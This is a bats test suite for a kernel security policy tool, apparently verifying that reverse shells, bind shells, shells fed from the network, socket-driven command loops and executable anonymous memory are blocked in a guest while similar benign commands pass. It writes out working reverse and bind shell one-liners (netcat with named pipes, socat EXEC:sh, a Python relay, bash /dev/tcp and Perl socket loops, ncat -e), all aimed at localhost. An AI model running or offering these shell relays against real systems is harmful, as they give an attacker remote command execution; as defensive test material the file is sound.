#!/usr/bin/env bats
# relay.bats: shells that another process leads over a connection, fed shells, connected code and code in memory, as the kernel
# stops them in a guest: what is refused, and what is left alone.
bats_require_minimum_version 1.5.0
load guest
load ../helpers

setup_file() {
	[ -e /sys/kernel/btf/vmlinux ] || return 0
	need_acts
	cat >"$BATS_FILE_TMPDIR/p.yaml" <<-'Y'
		kwp: 1
		name: relays
		detect: {reverse-shell-relay: block, bind-shell-relay: block, bind-shell-unix: block, pipe-to-shell: block,
		  connected-code: block, memory-executable: block, memory-file-mapped: block}
		except: [{id: reverse-shell-relay, when: process.executable == /usr/bin/ncat}]
	Y
	"$KWP" load "$BATS_FILE_TMPDIR/p.yaml" 2>"$BATS_FILE_TMPDIR/err" || echo $? >"$BATS_FILE_TMPDIR/status"
}
teardown_file() { "$KWP" load -q --unload || true; }

setup() {
	need_kwp
	need_btf
	cd "$BATS_TEST_TMPDIR"
	port=$((21000 + BATS_TEST_NUMBER * 10))
	background=()
}
teardown() { [ ${#background[@]} = 0 ] || kill "${background[@]}" || true; } 2>/dev/null

hits() {
	"$KWP" load --status -o json 3>&- | jq --arg w "^($1): " '[.rules[] | select(.words | test($w)).hits] | add'
}

# peer_at SAYS: someone listens at $port who says this, and keeps what he hears in the file heard.
peer_at() {
	peer "$port" "$1"$'\n' >heard 3>&- &
	background+=($!)
	until_true 20 grep -q ready heard
}

# denied NAME COMMAND: it counts as NAME, and nobody hears an answer.
denied() {
	local name=$1 before
	before=$(hits "$name")
	peer_at 'echo OBE""YED'
	timeout 10 bash -c "$2" >said 2>&1 </dev/null 3>&- || true
	[ "$(hits "$name")" -gt "$before" ] || { echo "not $name: $2: $(cat said)"; return 1; }
	sleep 0.2
	run ! grep OBEYED heard
	port=$((port + 1))
}

@test "what is loaded is enforced" {
	cat "$BATS_FILE_TMPDIR/err"
	[ ! -e "$BATS_FILE_TMPDIR/status" ]
	grep -q 'enforces: detect' "$BATS_FILE_TMPDIR/err"
}

@test "a shell that is led through pipes, a terminal, a unix socket, named pipes and filters" {
	mkfifo f g h
	denied reverse-shell-relay "sh <f 2>&1 | nc.openbsd 127.0.0.1 $port >f"
	denied reverse-shell-relay "socat TCP:127.0.0.1:$port EXEC:sh,pty,stderr"
	denied reverse-shell-relay "socat TCP:127.0.0.1:$port EXEC:sh,stderr"
	denied reverse-shell-relay "cat g | sh -i 2>&1 | nc.openbsd 127.0.0.1 $port >g"
	# Which it is depends on how far the pipeline has come.
	denied 'reverse-shell-relay|pipe-to-shell' "nc.openbsd 127.0.0.1 $port <h | cat | sh 2>&1 | cat >h"
	# All of it runs before the shell does.
	denied reverse-shell-relay "nc.openbsd 127.0.0.1 $port <h | cat | (sleep 1; exec sh 2>&1) | cat >h"
}

@test "a relay in an interpreter, by whatever order" {
	cat >relay.py <<-'P'
		import os, socket, subprocess, sys, time
		if sys.argv[2] == "early": s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
		p = subprocess.Popen(["sh"], stdin=-1, stdout=-1, stderr=-2)
		if sys.argv[2] == "late": time.sleep(.5); s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
		p.stdin.write(s.recv(99)); p.stdin.flush(); s.sendall(os.read(p.stdout.fileno(), 99))
	P
	denied reverse-shell-relay "python3 relay.py $port early"
	denied reverse-shell-relay "python3 relay.py $port late"
}

@test "what came in, and a client of a unix socket" {
	before=$(hits bind-shell-relay)
	socat "TCP-LISTEN:$port,reuseaddr" EXEC:sh,pty,stderr 3>&- &
	background+=($!)
	until_true 20 bash -c "exec 5<>/dev/tcp/127.0.0.1/$port && { echo 'echo OBEYED' >&5; timeout 5 cat <&5; true; }"
	[ "$(hits bind-shell-relay)" -gt "$before" ]
	before=$(hits bind-shell-unix)
	socat UNIX-LISTEN:sock EXEC:sh,stderr 3>&- &
	background+=($!)
	until_true 20 test -S sock
	(echo 'echo OBEYED'; sleep 5) | timeout 10 socat -t1 - UNIX-CONNECT:sock >answered || true
	[ "$(hits bind-shell-unix)" -gt "$before" ]
	run ! grep OBEYED answered
}

@test "a fed shell" {
	before=$(hits pipe-to-shell)
	peer_at 'echo OBE""YED >obeyed'
	timeout 5 bash -c "nc.openbsd 127.0.0.1 $port </dev/null | sh" 3>&- || true
	[ "$(hits pipe-to-shell)" -gt "$before" ]
	[ ! -e obeyed ]
}

@test "connected code" {
	denied connected-code "exec 5<>/dev/tcp/127.0.0.1/$port; while read -r l <&5; do /usr/bin/env \$l >&5 2>&1; done"
	denied connected-code "perl -MIO::Socket -e '\$s = IO::Socket::INET->new(\"127.0.0.1:$port\"); print \$s qx(\$_ 2>&1;:) while <\$s>'"
}

@test "code in memory" {
	before=$(hits memory-executable)
	run python3 -c 'import ctypes
l = ctypes.CDLL(None); l.mmap.restype = ctypes.c_long
print("MAPPED" if l.mmap(None, 4096, 7, 0x22, -1, 0) != -1 else "denied")'
	[ "$output" = denied ]
	[ "$(hits memory-executable)" -gt "$before" ]
	before=$(hits memory-file-mapped)
	run python3 -c 'import mmap; mmap.mmap(-1, 4096, prot=7)'
	[ "$status" != 0 ]
	[ "$(hits memory-file-mapped)" -gt "$before" ]
}

@test "what is alike is left alone" {
	before=$("$KWP" load --status -o json 3>&- | jq '[.rules[].hits] | add')
	peer_at 'the answer'
	[ "$(timeout 5 nc.openbsd 127.0.0.1 "$port" </dev/null | tr a-z A-Z | head -n 1)" = 'THE ANSWER' ]
	port=$((port + 1))
	peer_at 'the answer'
	python3 -c '
import pty, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
assert subprocess.run(["sort"], input=b"b\na\n", capture_output=True).stdout == b"a\nb\n"
assert s.recv(99)' "$port"
	[ "$(echo 'echo $((6 * 7))' | sh)" = 42 ]
	[ "$(echo 'echo $((6 * 7))' | cat | sh | cat)" = 42 ]
	port=$((port + 1))
	peer_at 'echo OBE""YED'
	timeout 5 ncat 127.0.0.1 "$port" -e /bin/sh 3>&- || true
	grep -q OBEYED heard
	python3 -c 'import pty; pty.spawn(["sh", "-c", "exit 0"])'
	[ "$("$KWP" load --status -o json 3>&- | jq '[.rules[].hits] | add')" = "$before" ]
}
